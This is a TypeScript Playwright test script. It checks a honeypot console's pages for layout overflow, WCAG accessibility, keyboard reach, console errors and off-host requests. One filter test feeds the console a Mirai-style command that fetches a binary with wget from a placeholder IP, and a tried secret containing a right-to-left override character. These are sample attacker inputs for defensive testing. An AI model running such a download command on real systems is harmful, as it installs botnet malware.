/**
 * Looks at every page of the console in a real browser: each at 1440 and 390 pixels, light and dark. Fails on horizontal
 * overflow, what axe finds against WCAG 2.2 AA, a console error or policy violation, a request to another host, or a main
 * control that the keyboard cannot reach. Prints one JSON line; `--screenshots DIR` keeps a picture of every page.
 *
 *   node evaluation/system/console.ts [--screenshots DIR]                                 the built console on an invented hub
 *   node evaluation/system/console.ts --url URL --email E --password P [--screenshots DIR] a running hub
 *
 * `CERBERUS_CONSOLE` names another build than that of the package. `--setup-link LINK` first makes the administrator of a
 * fresh hub with that address and password, in the browser.
 */
import { mkdir, readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { join, resolve } from 'node:path';
import { parseArgs } from 'node:util';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { z } from 'zod';
import {
  MOCK_EMAIL,
  MOCK_PASSWORD,
  MOCK_SETUP_TOKEN,
  startMockServer,
} from '../../packages/dashboard/src/testing/mock-server.ts';
import { findChromium } from './chromium.ts';

const distDirectory = resolve(import.meta.dirname, process.env.CERBERUS_CONSOLE ?? '../../packages/dashboard/dist');
const WIDTHS = [1440, 390] as const;
const THEMES = ['light', 'dark'] as const;
const TABS = ['replay', 'timeline', 'transcript', 'credentials', 'files', 'detections', 'why', 'raw'] as const;
const SETTINGS = ['preferences', 'security', 'keys', 'users', 'audit', 'retention', 'system'] as const;
const pageReadyTimeoutMs = 15_000;
const maxTabPresses = 120;
/** The rules of axe that stand for WCAG 2.2 AA, and its own good practice. */
const AXE_TAGS = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'] as const;
const axeSource = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const axeReplySchema = z.array(
  z.object({ id: z.string(), help: z.string(), nodes: z.array(z.object({ target: z.array(z.unknown()) })) }),
);

interface Target {
  readonly url: string;
  readonly email: string;
  readonly password: string;
}
interface Visit {
  readonly name: string;
  readonly path: string;
  /** Words that must be reachable with Tab on this page at desktop width. */
  readonly keyboard?: readonly string[];
}

const { values: options } = parseArgs({
  options: {
    url: { type: 'string' },
    email: { type: 'string' },
    password: { type: 'string' },
    'setup-link': { type: 'string' },
    screenshots: { type: 'string' },
    chromium: { type: 'string' },
  },
});

const failures: string[] = [];
let checks = 0;
function check(passed: boolean, what: string): void {
  checks += 1;
  if (passed) return;
  failures.push(what);
  console.error(`FAILED ${what}`);
}

if (options.screenshots !== undefined) await mkdir(options.screenshots, { recursive: true });
const browser = await chromium.launch({ executablePath: findChromium(options.chromium), args: ['--no-sandbox'] });
try {
  if (options.url === undefined) await checkInventedHub(browser);
  else {
    const target = { url: options.url, email: options.email ?? '', password: options.password ?? '' };
    if (options['setup-link'] !== undefined) await makeAdministrator(browser, options['setup-link'], target);
    await checkTarget(browser, target, 'hub', 'all');
  }
} finally {
  await browser.close();
}
console.log(JSON.stringify({ name: 'console', checks, failed: failures.length, failures }));
process.exitCode = failures.length === 0 ? 0 : 1;

/** All pages with attacks; the main ones with none and with a hub whose database is down; set-up on a fresh hub. */
async function checkInventedHub(browser: Browser): Promise<void> {
  for (const scenario of ['busy', 'empty', 'failing'] as const) {
    const server = await startMockServer({ distDirectory, scenario });
    try {
      await checkTarget(
        browser,
        { url: server.url, email: MOCK_EMAIL, password: MOCK_PASSWORD },
        scenario,
        scenario === 'busy' ? 'all' : 'main',
      );
    } finally {
      await server.stop();
    }
  }
  const fresh = await startMockServer({ distDirectory, scenario: 'empty', setupNeeded: true });
  try {
    await checkSetup(browser, fresh.url);
  } finally {
    await fresh.stop();
  }
}

async function checkTarget(browser: Browser, target: Target, label: string, extent: 'all' | 'main'): Promise<void> {
  let pages: readonly string[] = [];
  for (const theme of THEMES) {
    for (const width of WIDTHS) {
      const context = await browser.newContext({
        viewport: { width, height: width === 390 ? 844 : 900 },
        colorScheme: theme,
        reducedMotion: 'reduce',
      });
      const page = await watchedPage(context, target.url, `${label} ${theme} ${width}`);
      const visitNow = (visit: Visit) => visitPage(page, target.url, visit, { label, theme, width });

      await visitNow({ name: 'login', path: '/login', keyboard: ['E-mail', 'Password', 'Sign in'] });
      await page.getByLabel('E-mail').fill(target.email);
      await page.getByLabel('Password').fill(target.password);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.waitForURL((url) => url.pathname === '/', { timeout: pageReadyTimeoutMs });

      await visitNow({
        name: 'overview',
        path: '/',
        keyboard: [
          'Skip to content',
          'Sessions',
          'Decisions',
          'Search',
          'Account and settings',
          'Pause',
          'View as table',
        ],
      });
      await visitNow({
        name: 'sessions',
        path: '/sessions',
        keyboard: ['Source address', 'Decision', 'Technique', 'Text to look for'],
      });
      await visitNow({ name: 'decisions', path: '/decisions', keyboard: ['Kind', 'State'] });
      if (extent === 'all') {
        // The menu of a wide window names every page; a narrow one keeps it in a drawer.
        if (width === WIDTHS[0]) pages = await pagesOfMenu(page);
        for (const path of pages.filter((known) => !['/', '/sessions', '/decisions'].includes(known)))
          await visitNow({ name: path.slice(1).replaceAll('/', '-'), path });
        for (const section of SETTINGS) await visitNow({ name: `settings-${section}`, path: `/settings/${section}` });
        await visitNow({ name: 'kiosk', path: '/?kiosk=1' });
        await visitNow({ name: 'welcome', path: '/welcome' });
        await visitNow({ name: 'sessions-filtered', path: '/sessions?minScore=0.6&withCommands=true' });
        await visitNow({
          name: 'sessions-tried',
          path: `/sessions?${new URLSearchParams({
            triedUsername: 'root',
            triedSecret: '\u202e1234',
            commandText: `cd /tmp || cd /var/run; ${'wget http://198.51.100.23/mirai.x86 -O - > .x; '.repeat(4)}`.slice(
              0,
              200,
            ),
            country: 'unknown',
            stage: 'execution',
          })}`,
          keyboard: ['Remove the filter User name tried', 'Clear filters'],
        });
        await visitNow({ name: 'sessions-nothing', path: '/sessions?source=192.0.2.255' });
        await visitNow({ name: 'not-found', path: '/no/such/page' });
        await visitNow({ name: 'session-missing', path: '/sessions/00000000-0000-7000-8000-000000000000' });
        const id = await sessionWorthSeeing(page);
        check(id !== null, `${label} ${theme} ${width}: a session with commands exists`);
        if (id !== null)
          for (const tab of TABS)
            await visitNow({
              name: `session-${tab}`,
              path: `/sessions/${id}?tab=${tab}`,
              keyboard: ['Timeline', 'Why'],
            });
        await checkDialogs(page, target.url, { label, theme, width });
        await checkWhyOpens(page, target.url, { label, theme, width });
        if (theme === 'light') await checkGerman(page, target.url, { label, theme, width }, id);
      }
      await context.close();
    }
  }
}

async function pagesOfMenu(page: Page): Promise<readonly string[]> {
  const addresses = await page
    .locator('nav a[href^="/"]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
  return [...new Set(addresses)];
}

/** Follows every message of the page; what is wrong anywhere fails the run. */
async function watchedPage(context: BrowserContext, base: string, label: string): Promise<Page> {
  const page = await context.newPage();
  const host = new URL(base).host;
  page.on('console', (message) => {
    // A refused request (401 before sign-in, 404 of a missing session) is logged by the browser itself and is intended.
    if (message.type() === 'error' && !message.text().startsWith('Failed to load resource'))
      check(false, `${label}: console error: ${message.text()}`);
  });
  page.on('pageerror', (error) => check(false, `${label}: uncaught: ${error.message}`));
  page.on('dialog', (dialog) => {
    check(false, `${label}: attacker text ran a script: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (!['data:', 'blob:'].includes(url.protocol) && url.host !== host)
      check(false, `${label}: request to another host: ${request.url()}`);
  });
  return page;
}

interface Look {
  readonly label: string;
  readonly theme: string;
  readonly width: number;
}

async function visitPage(page: Page, base: string, visit: Visit, look: Look): Promise<void> {
  const where = `${look.label} ${visit.name} ${look.theme} ${look.width}`;
  await page.goto(base + visit.path);
  await page.locator('h1, [role="alert"], main').first().waitFor({ timeout: pageReadyTimeoutMs });
  await settled(page);
  await checkWidth(page, where);
  check((await page.locator('html').getAttribute('data-theme')) === look.theme, `${where}: follows the system's theme`);
  check((await page.locator('h1').count()) <= 1, `${where}: at most one h1`);
  await checkAccessibility(page, where);
  await picture(page, `${look.label}-${visit.name}-${look.width}-${look.theme}`);
  if (look.width === 1440 && look.theme === 'light' && look.label !== 'failing' && visit.keyboard !== undefined)
    await checkKeyboard(page, where, visit.keyboard);
}

/** Loaded and painted: no skeleton left, and what is lazy has arrived. */
async function settled(page: Page): Promise<void> {
  await page
    .waitForFunction(() => document.querySelector('.skeleton') === null, undefined, { timeout: pageReadyTimeoutMs })
    .catch(() => undefined);
  await page.waitForTimeout(350);
}

async function checkWidth(page: Page, where: string): Promise<void> {
  const overflow = await page.evaluate(
    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
  );
  check(overflow <= 0, `${where}: overflows by ${overflow} px`);
  // What is cut at the edge of a box that does not scroll is as lost as what overflows the page.
  const cut = await page.evaluate(() =>
    [...document.querySelectorAll('button, a, input, select, h1, h2')]
      .filter((element) => {
        const box = element.getBoundingClientRect();
        const scrolls =
          element.closest('.overflow-x-auto, .overflow-auto, .sr-only, .ap-player, [aria-hidden="true"]') !== null;
        return box.width > 1 && !scrolls && (box.right > document.documentElement.clientWidth + 1 || box.left < -1);
      })
      .map((element) => (element.textContent ?? '').slice(0, 40)),
  );
  check(cut.length === 0, `${where}: cut at the edge: ${cut.join(' | ')}`);
}

/** What axe finds. It runs through the debugger's door, which the page's own policy does not close. */
async function checkAccessibility(page: Page, where: string): Promise<void> {
  await page.evaluate(axeSource);
  const found = axeReplySchema.parse(
    await page.evaluate(`axe.run({ runOnly: ${JSON.stringify(AXE_TAGS)} }).then(({ violations }) => violations)`),
  );
  check(
    found.length === 0,
    `${where}: axe: ${found.map(({ id, help, nodes }) => `${id} (${help}) at ${JSON.stringify(nodes.slice(0, 3).flatMap(({ target }) => target))}`).join('; ')}`,
  );
}

/** Presses Tab through the page and notes the name of whatever has the focus; each must also show that it has it. */
async function checkKeyboard(page: Page, where: string, expected: readonly string[]): Promise<void> {
  const missing = new Set(expected);
  await page.locator('body').press('Home');
  await page.evaluate(() =>
    document.activeElement instanceof HTMLElement ? document.activeElement.blur() : undefined,
  );
  for (let presses = 0; presses < maxTabPresses && missing.size > 0; presses++) {
    await page.keyboard.press('Tab');
    const focus = await page.evaluate(() => {
      const element = document.activeElement;
      if (!(element instanceof HTMLElement) || element === document.body) return null;
      const labels =
        element instanceof HTMLInputElement || element instanceof HTMLSelectElement
          ? [...(element.labels ?? [])].map((label) => label.textContent ?? '')
          : [];
      const style = getComputedStyle(element);
      const labelStyle = element.parentElement === null ? style : getComputedStyle(element.parentElement);
      return {
        name: [element.getAttribute('aria-label') ?? '', element.textContent ?? '', ...labels].join(' '),
        visible:
          style.outlineStyle !== 'none' ||
          labelStyle.outlineStyle !== 'none' ||
          style.boxShadow !== 'none' ||
          element.id === 'main',
      };
    });
    if (focus === null) continue;
    check(focus.visible, `${where}: focus is visible on "${focus.name.slice(0, 40)}"`);
    for (const name of missing) if (focus.name.includes(name)) missing.delete(name);
  }
  check(missing.size === 0, `${where}: reachable with Tab: ${[...missing].join(', ')}`);
}

async function checkDialogs(page: Page, base: string, look: Look): Promise<void> {
  const where = `${look.label} dialogs ${look.theme} ${look.width}`;
  await page.goto(`${base}/`);
  await settled(page);
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox').waitFor();
  await page.getByRole('combobox').fill('203.0.113.7');
  await checkWidth(page, where);
  await picture(page, `${look.label}-palette-${look.width}-${look.theme}`);
  await page.keyboard.press('Enter');
  await page.waitForURL((url) => url.pathname === '/sessions' && url.searchParams.get('source') === '203.0.113.7', {
    timeout: pageReadyTimeoutMs,
  });
  await page.keyboard.press('g');
  await page.keyboard.press('d');
  await page.waitForURL((url) => url.pathname === '/decisions', { timeout: pageReadyTimeoutMs });
  await page.keyboard.press('?');
  await page.getByRole('dialog').waitFor();
  await picture(page, `${look.label}-help-${look.width}-${look.theme}`);
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await page.getByRole('button', { name: 'Account and settings' }).locator('visible=true').click();
  await page.getByRole('dialog').waitFor();
  await picture(page, `${look.label}-account-${look.width}-${look.theme}`);
  await page.keyboard.press('Escape');
  check(true, where);
}

async function checkWhyOpens(page: Page, base: string, look: Look): Promise<void> {
  await page.goto(`${base}/decisions`);
  await settled(page);
  // New decisions come in on top meanwhile: the row is held by its own name.
  const row = await page
    .locator('[data-row]')
    .first()
    .getAttribute('data-row')
    .catch(() => null);
  if (row === null) return;
  const why = page.locator(`[data-row="${row}"]`).getByRole('button', { name: 'Why this decision' });
  if ((await why.count()) === 0) return;
  await why.focus();
  await page.keyboard.press('Enter');
  check((await why.getAttribute('aria-expanded')) === 'true', `${look.label}: a decision opens with Enter`);
  await checkWidth(page, `${look.label} decision open ${look.theme} ${look.width}`);
  await picture(page, `${look.label}-decision-open-${look.width}-${look.theme}`);
}

/** German words are longer: what fits in English may not. */
async function checkGerman(page: Page, base: string, look: Look, sessionId: string | null): Promise<void> {
  await page.evaluate(() => localStorage.setItem('cerberus.language', 'de'));
  for (const [name, path] of [
    ['overview', '/'],
    ['sessions', '/sessions'],
    ['decisions', '/decisions'],
    ...(sessionId === null ? [] : [['session', `/sessions/${sessionId}?tab=why`] as const]),
  ] as const) {
    await visitPage(page, base, { name: `german-${name}`, path }, look);
  }
  check((await page.locator('html').getAttribute('lang')) === 'de', `${look.label}: the page says that it is German`);
}

async function checkSetup(browser: Browser, url: string): Promise<void> {
  for (const theme of THEMES) {
    for (const width of WIDTHS) {
      const context = await browser.newContext({ viewport: { width, height: 844 }, colorScheme: theme });
      const page = await watchedPage(context, url, `setup ${theme} ${width}`);
      await visitPage(
        page,
        url,
        {
          name: 'setup',
          path: `/setup#token=${MOCK_SETUP_TOKEN}`,
          keyboard: ['Name', 'E-mail', 'Password', 'Create and sign in'],
        },
        { label: 'fresh', theme, width },
      );
      await context.close();
    }
  }
  await makeAdministrator(browser, `${url}/setup#token=${MOCK_SETUP_TOKEN}`, {
    url,
    email: 'ada@example.org',
    password: 'set up just now',
  });
}

/** Follows the link that a fresh hub prints: a short password is refused with a reason, a good one signs in. */
async function makeAdministrator(browser: Browser, link: string, target: Target): Promise<void> {
  const context = await browser.newContext();
  const page = await watchedPage(context, target.url, 'setup');
  await page.goto(link);
  await page.getByLabel('Name').fill('Ada');
  await page.getByLabel('E-mail').fill(target.email);
  await page.getByLabel('Password').fill('short');
  await page.getByRole('button', { name: 'Create and sign in' }).click();
  await page.getByText('Use 12 to 128 characters.').waitFor();
  await page.getByLabel('Password').fill(target.password);
  await page.getByRole('button', { name: 'Create and sign in' }).click();
  await page.waitForURL((address) => address.pathname === '/welcome', { timeout: pageReadyTimeoutMs });
  check(true, 'setup: creates the administrator and signs in');
  await context.close();
}

/** The first listed session with commands whose login was let in; its page has something on most tabs. */
async function sessionWorthSeeing(page: Page): Promise<string | null> {
  return await page.evaluate(async () => {
    for (const query of ['withCommands=true&minScore=0.6&state=closed', 'withCommands=true', 'limit=1']) {
      const response = await fetch(`/api/v1/sessions?${query}`);
      const body: { items?: { id: string; recordingSha256: string | null }[] } = await response.json();
      const session = body.items?.find(({ recordingSha256 }) => recordingSha256 !== null) ?? body.items?.[0];
      if (session !== undefined) return session.id;
    }
    return null;
  });
}

async function picture(page: Page, name: string): Promise<void> {
  if (options.screenshots !== undefined) await page.screenshot({ path: join(options.screenshots, `${name}.png`) });
}
